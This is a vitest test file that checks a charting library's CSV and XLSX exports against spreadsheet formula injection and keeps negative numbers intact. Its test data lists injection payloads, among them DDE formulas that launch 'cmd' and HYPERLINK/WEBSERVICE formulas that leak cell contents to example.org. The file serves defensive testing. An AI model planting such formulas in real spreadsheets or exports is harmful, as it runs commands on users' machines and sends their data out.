import { camdenFramework, type Summary, summaryFromValues } from '@value-framework/core'
import { describe, expect, it } from 'vitest'
import { figureKinds, formatsOf, readWorkbook, renderFigure } from '../src/index.ts'
import { all, openOfficeFile } from './office-file.ts'
import { threeGroups } from './radar-summaries.ts'

/**
 * What OWASP's page on CSV injection warns of: the signs, their full-width forms, TAB, CR and LF before them, and text that
 * breaks out of its cell by quotes and by the separators of other countries.
 */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  ' =1+1',
  '"=1+1',
  '","=1+1',
  '",=1+1,"',
  ';=1+1',
  '";=1+1;"',
  'Fine\n=1+1',
  'Fine\t=1+1',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?leak="&A1,"Open")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")',
]

/** Fields as a spreadsheet of some country takes a file apart: at a separator outside quotes, and at line ends. */
function fieldsOf(csv: string, separator: string): readonly string[] {
  const fields: string[] = []
  let field = ''
  let quoted = false
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv[at] as string
    if (quoted && sign === '"' && csv[at + 1] === '"') {
      field += sign
      at += 1
    } else if (sign === '"' && (quoted || field === '')) quoted = !quoted
    else if (!quoted && (sign === separator || sign === '\n' || sign === '\r')) {
      fields.push(field)
      field = ''
    } else field += sign
  }
  return [...fields, field]
}

const isFormula = (field: string): boolean =>
  /^[\t\r\n]*[\s\p{Cf}"]*[=+\-@＝＋－＠]/u.test(field) && !/^-?\d+(?:\.\d+)?$/.test(field)

const attacked = (text: string): Summary => ({
  ...threeGroups,
  title: text,
  question: text,
  source: { text },
  scale: { ...threeGroups.scale, labels: { 1: text, 5: text } },
  groups: threeGroups.groups.map((group, index) => ({
    ...group,
    label: text,
    sector: camdenFramework.sectors[index]?.id ?? 'healthcare',
  })),
})

const kinds = figureKinds.filter((kind) => formatsOf(kind).includes('csv'))

describe.each(kinds)('$name', (kind) => {
  it.each(attacks)('runs no formula out of %j', async (text) => {
    const input = {
      framework: camdenFramework,
      summary: attacked(text),
      title: text,
      license: text,
    }
    const csv = new TextDecoder().decode((await renderFigure(kind, 'csv', input)).bytes)
    for (const separator of [',', ';', '\t']) {
      expect(fieldsOf(csv.replace('\ufeff', ''), separator).filter(isFormula)).toEqual([])
    }
    const { bytes } = await renderFigure(kind, 'xlsx', input)
    const file = openOfficeFile(bytes)
    for (const name of file.names.filter((part) => /worksheets\/sheet\d+\.xml$/.test(part))) {
      expect(all(file.xml(name), 'f')).toEqual([])
    }
  })
})

it('leaves real negative numbers as they are', async () => {
  const rated = summaryFromValues([4, 3, 5, 2])
  const [group] = rated.groups
  const cells = Object.entries(group!.cells).map(([id], index) => [
    id,
    { state: 'shown', value: [-2, -0.5, 0, 3][index] },
  ])
  const summary = {
    ...rated,
    scale: { min: -3, max: 3, labels: {} },
    groups: [{ ...group!, cells: Object.fromEntries(cells) }],
  } as Summary
  const [radar] = figureKinds
  const input = { framework: camdenFramework, summary }
  const csv = new TextDecoder().decode((await renderFigure(radar!, 'csv', input)).bytes)
  const fields = fieldsOf(csv, ',')
  for (const number of ['-2', '-0.5', '0', '3']) expect(fields).toContain(number)
  expect(csv).not.toContain("'-")
  const { bytes } = await renderFigure(radar!, 'xlsx', input)
  const [sheet] = await readWorkbook(bytes)
  expect(sheet?.rows.flat()).toEqual(expect.arrayContaining(['-2', '-0.5']))
  const numbers = all(openOfficeFile(bytes).xml('xl/worksheets/sheet1.xml'), 'c')
    .filter((cell) => cell.getAttribute('t') === null || cell.getAttribute('t') === 'n')
    .map((cell) => all(cell, 'v')[0]?.textContent)
  expect(numbers).toEqual(expect.arrayContaining(['-2', '-0.5']))
})
